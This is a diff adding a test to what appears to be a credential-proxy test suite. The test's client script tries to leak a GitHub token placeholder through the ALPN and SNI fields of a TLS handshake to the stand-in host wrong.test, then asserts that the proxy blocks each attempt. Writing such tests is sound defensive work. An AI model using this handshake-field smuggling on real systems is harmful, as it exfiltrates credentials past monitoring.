@@ -342,3 +342,45 @@ def run_stored(box):
                 env={"RF_SECRET": SECRET}, timeout=60)
     assert r.returncode == 0, r.stderr
     return r
+
+
+def test_placeholders_in_a_client_hello_are_refused(cred):
+    # wrong.test is allowed and bound to nothing: its TLS is never
+    # intercepted, so the ClientHello goes out as it is; a placeholder in
+    # it (the ALPN protocol, the server name) closes the tunnel
+    p = policy(cred)
+    script = CLIENT_PRELUDE + r'''
+import ssl
+T = os.environ["GITHUB_TOKEN"]
+def hello(alpn, sni="wrong.test"):
+    s = dial()
+    s.sendall(b"CONNECT wrong.test:443 HTTP/1.1\r\nHost: wrong.test:443\r\n\r\n")
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += s.recv(1)
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    ctx.set_alpn_protocols(alpn)
+    try:
+        t = ctx.wrap_socket(s, server_hostname=sni)
+    except (ssl.SSLError, OSError):
+        return "closed"
+    t.close()
+    return "handshake"
+print("control =", hello(["http/1.1"]))
+print("alpn =", hello(["h2", T]))
+print("alpn lowercase =", hello([T.lower()]))
+print("sni =", hello(["http/1.1"], T.lower() + ".wrong.test"))
+'''
+    cred.write("work/client.py", script)
+    r = cred.run(["/usr/bin/python3", "client.py"], policy=p, env={"RF_SECRET": SECRET})
+    assert r.returncode == 0, r.stderr
+    out = dict(l.split(" = ", 1) for l in r.stdout.splitlines() if " = " in l)
+    # the positive control: the same tunnel, no placeholder, shakes hands
+    assert out["control"] == "handshake", r.stdout
+    for name in ("alpn", "alpn lowercase", "sni"):
+        assert out[name] == "closed", (name, r.stdout)
+    blocks = cred.events("cred.block")
+    assert len(blocks) == 3 and {e["where"] for e in blocks} == {"stream"}, blocks
+    assert all(e["credential"] == "github" and e["host"] == "wrong.test" for e in blocks), blocks
